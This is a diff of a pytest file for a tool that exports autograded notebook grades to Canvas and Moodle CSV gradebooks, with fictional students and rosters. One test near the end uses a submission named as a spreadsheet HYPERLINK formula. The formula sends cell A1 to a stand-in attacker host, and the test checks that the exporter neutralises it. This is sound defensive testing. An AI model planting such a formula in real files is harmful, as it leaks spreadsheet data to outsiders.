@@ -32,22 +32,25 @@ MOODLE_GRADEBOOK = (
 MOODLE_WORKSHEET = (
     "Identifier,Full name,Email address,Status,Grade,Maximum Grade,Grade can be changed,"
     "Last modified (submission),Last modified (grade),Feedback comments\n"
-    '"Participant 5001","Bob Smith",bob@uni.edu,Submitted,,44.00,Yes,"Monday, 1 December 2025, 10:00 AM","Tuesday, 2 December 2025, 9:00 AM",\n'
+    '"Participant 5001","Bob Smith",bob@uni.edu,Submitted,,44.00,Yes,"Monday, 1 December 2025, 10:00 AM",'
+    '"Tuesday, 2 December 2025, 9:00 AM",\n'
     '"Participant 5002","Ana Diaz",ana@uni.edu,Submitted,,44.00,Yes,"Monday, 1 December 2025, 11:00 AM",-,\n'
     '"Participant 5003","Min Kim",min@uni.edu,"No submission",,44.00,Yes,-,-,\n'
 )
 
 
-def result(submission: str, points: float = 40.0, manual: float | None = 4.0, status: str = "ok",
-           assignment: str = "hw2", **kwargs) -> r.GradeResult:  # fmt: skip
+def result(
+    submission: str, points: float = 40.0, manual: float | None = 4.0, status: str = "ok", assignment: str = "hw2", **kwargs
+) -> r.GradeResult:
     """A graded hw2 result: 40 auto-graded points and a 4-point written question (TA-graded unless manual=None)."""
     questions = [
         r.QuestionResult("corr2d", "corr2d", "pass" if points >= 20 else "fail", min(points, 20.0), 20.0),
         r.QuestionResult("lenet", "LeNet", "pass" if points >= 40 else "fail", max(points - 20.0, 0.0), 20.0),
         r.QuestionResult("ex_proof", "Proof", "manual", manual or 0.0, 4.0, ta_points=manual),
     ]
-    return r.GradeResult(submission, "ab" * 32, assignment, "quick", "cpu", "0.1.0", r.ExecutionRecord(status, ""), questions,
-                         cache_key="k", **kwargs)  # fmt: skip
+    return r.GradeResult(
+        submission, "ab" * 32, assignment, "quick", "cpu", "0.1.0", r.ExecutionRecord(status, ""), questions, cache_key="k", **kwargs
+    )
 
 
 def write(tmp_path, *graded: tuple[str, r.GradeResult], roster: str = CANVAS_ROSTER):
@@ -65,8 +68,11 @@ def rows(text: str) -> list[list[str]]:
 
 
 def canvas_class(tmp_path):
-    return write(tmp_path, ("smithbob_101_9001_hw2", result("subs/smithbob_101_9001_hw2.ipynb", 38.5, 3.0)),
-                 ("diazana_LATE_102_9002_hw2", result("subs/diazana_LATE_102_9002_hw2.ipynb", 40.0, 4.0)))  # fmt: skip
+    return write(
+        tmp_path,
+        ("smithbob_101_9001_hw2", result("subs/smithbob_101_9001_hw2.ipynb", 38.5, 3.0)),
+        ("diazana_LATE_102_9002_hw2", result("subs/diazana_LATE_102_9002_hw2.ipynb", 40.0, 4.0)),
+    )
 
 
 # --------------------------------------------------------------------------- formats
@@ -94,9 +100,12 @@ def test_canvas_column_and_points_possible_options_name_the_assignment_and_scale
 
 
 def test_moodle_export_from_the_gradebook_export_keeps_identity_columns_and_adds_grade_and_feedback(tmp_path):
-    out, roster = write(tmp_path, ("a", result("moodle/Bob Smith_5001_assignsubmission_file/hw2.ipynb", 30.0, 2.0)),
-                        ("b", result("moodle/Ana Diaz_5002_assignsubmission_file/hw2.ipynb", 40.0, 4.0)),
-                        roster=MOODLE_GRADEBOOK)  # fmt: skip
+    out, roster = write(
+        tmp_path,
+        ("a", result("moodle/Bob Smith_5001_assignsubmission_file/hw2.ipynb", 30.0, 2.0)),
+        ("b", result("moodle/Ana Diaz_5002_assignsubmission_file/hw2.ipynb", 40.0, 4.0)),
+        roster=MOODLE_GRADEBOOK,
+    )
     made = build_export(load_results(out), roster, ExportOptions("moodle", feedback=True))
     assert rows(made.text) == [
         ["First name", "Last name", "ID number", "Email address", "hw2", "Feedback"],
@@ -107,8 +116,7 @@ def test_moodle_export_from_the_gradebook_export_keeps_identity_columns_and_adds
 
 
 def test_moodle_export_from_the_grading_worksheet_is_a_worksheet_moodle_takes_back(tmp_path):
-    out, roster = write(tmp_path, ("a", result("Bob Smith_5001_assignsubmission_file_hw2.ipynb", 40.0, 1.0)),
-                        roster=MOODLE_WORKSHEET)  # fmt: skip
+    out, roster = write(tmp_path, ("a", result("Bob Smith_5001_assignsubmission_file_hw2.ipynb", 40.0, 1.0)), roster=MOODLE_WORKSHEET)
     table = rows(build_export(load_results(out), roster, ExportOptions("moodle", feedback=True)).text)
     assert table[0] == ["Identifier", "Full name", "Email address", "Grade", "Last modified (grade)", "Feedback comments"]
     assert table[1][:5] == ["Participant 5001", "Bob Smith", "bob@uni.edu", "41", "Tuesday, 2 December 2025, 9:00 AM"]
@@ -117,18 +125,28 @@ def test_moodle_export_from_the_grading_worksheet_is_a_worksheet_moodle_takes_ba
 # --------------------------------------------------------------------------- who is who
 
 
-@pytest.mark.parametrize(("name", "user"), [("smithbob_101_9001_hw2.ipynb", "101"), ("smithbob_LATE_101_9001_hw2.ipynb", "101"),
-                                            ("smith_jrbob_late_101_9001_my_hw_2.ipynb", "101"), ("hw2.ipynb", None)])  # fmt: skip
+@pytest.mark.parametrize(
+    ("name", "user"),
+    [
+        ("smithbob_101_9001_hw2.ipynb", "101"),
+        ("smithbob_LATE_101_9001_hw2.ipynb", "101"),
+        ("smith_jrbob_late_101_9001_my_hw_2.ipynb", "101"),
+        ("hw2.ipynb", None),
+    ],
+)
 def test_canvas_download_names_give_the_canvas_user_id(name, user):
     assert canvas_user_id(f"subs/{name}") == user
 
 
-@pytest.mark.parametrize(("path", "found"), [
-    ("dl/Ana Diaz_5002_assignsubmission_file/hw2.ipynb", ("Ana Diaz", "5002")),
-    ("dl/Ana Diaz_5002_assignsubmission_file/sub/hw2.ipynb", ("Ana Diaz", "5002")),
-    ("Ana Diaz_5002_assignsubmission_file_hw2.ipynb", ("Ana Diaz", "5002")),
-    ("dl/hw2.ipynb", None),
-])  # fmt: skip
+@pytest.mark.parametrize(
+    ("path", "found"),
+    [
+        ("dl/Ana Diaz_5002_assignsubmission_file/hw2.ipynb", ("Ana Diaz", "5002")),
+        ("dl/Ana Diaz_5002_assignsubmission_file/sub/hw2.ipynb", ("Ana Diaz", "5002")),
+        ("Ana Diaz_5002_assignsubmission_file_hw2.ipynb", ("Ana Diaz", "5002")),
+        ("dl/hw2.ipynb", None),
+    ],
+)
 def test_moodle_download_names_give_the_full_name_and_participant_id(path, found):
     assert moodle_participant(path) == found
 
@@ -152,8 +170,12 @@ def test_moodle_names_that_two_students_share_are_an_error(tmp_path):
 
 
 def test_an_unmapped_submission_is_an_error_naming_it_and_nothing_is_written(tmp_path):
-    out, roster = write(tmp_path, ("ok", result("smithbob_101_9001_hw2.ipynb")), ("stray", result("subs/stray.ipynb")),
-                        ("ghost", result("ghost_999_9009_hw2.ipynb")))  # fmt: skip
+    out, roster = write(
+        tmp_path,
+        ("ok", result("smithbob_101_9001_hw2.ipynb")),
+        ("stray", result("subs/stray.ipynb")),
+        ("ghost", result("ghost_999_9009_hw2.ipynb")),
+    )
     target = tmp_path / "canvas.csv"
     with pytest.raises(ExportError) as info:
         export(out, roster, target, ExportOptions("canvas"))
@@ -166,8 +188,11 @@ def test_two_submissions_for_one_student_are_an_error_naming_both_and_an_existin
     out, roster = write(tmp_path, ("one", result("smithbob_101_9001_hw2.ipynb")), ("two", result("smithbob_101_9003_hw2_v2.ipynb")))
     target = tmp_path / "canvas.csv"
     target.write_text("last week's export\n", encoding="utf-8")
-    with pytest.raises(ExportError, match=r"Smith, Bob \(ID 101\), roster row 3, has 2 submissions: "
-                                          r"smithbob_101_9001_hw2.ipynb, smithbob_101_9003_hw2_v2.ipynb"):  # fmt: skip
+    with pytest.raises(
+        ExportError,
+        match=r"Smith, Bob \(ID 101\), roster row 3, has 2 submissions: "
+        r"smithbob_101_9001_hw2.ipynb, smithbob_101_9003_hw2_v2.ipynb",
+    ):
         export(out, roster, target, ExportOptions("canvas"))
     assert target.read_text(encoding="utf-8") == "last week's export\n"
 
@@ -189,8 +214,9 @@ def test_pending_manual_points_are_an_error_unless_allowed_and_then_the_points_s
 
 
 def test_results_of_two_assignments_are_an_error_unless_one_is_chosen(tmp_path):
-    out, roster = write(tmp_path, ("a", result("smithbob_101_9001_hw2.ipynb")),
-                        ("b", result("diazana_102_9002_demo.ipynb", assignment="demo")))  # fmt: skip
+    out, roster = write(
+        tmp_path, ("a", result("smithbob_101_9001_hw2.ipynb")), ("b", result("diazana_102_9002_demo.ipynb", assignment="demo"))
+    )
     with pytest.raises(ExportError, match=r"several assignments: .*--assignment"):
         build_export(load_results(out), roster, ExportOptions("canvas"))
     table = rows(build_export(load_results(out), roster, ExportOptions("canvas", assignment="hw2")).text)
@@ -256,7 +282,7 @@ def test_formula_injection_is_neutralised_in_canvas_student_and_section_cells(tm
 def test_the_gradebook_neutralises_a_submission_named_like_a_formula():
     evil = result('=HYPERLINK("http://evil.example/?"&A1,"open").ipynb')
     row = rows(gradebook_csv([evil]))[1]
-    assert row[0] == "'=HYPERLINK(\"http://evil.example/?\"&A1,\"open\").ipynb"
+    assert row[0] == '\'=HYPERLINK("http://evil.example/?"&A1,"open").ipynb'
     assert row[2:5] == ["44", "44", "0"]
 
 
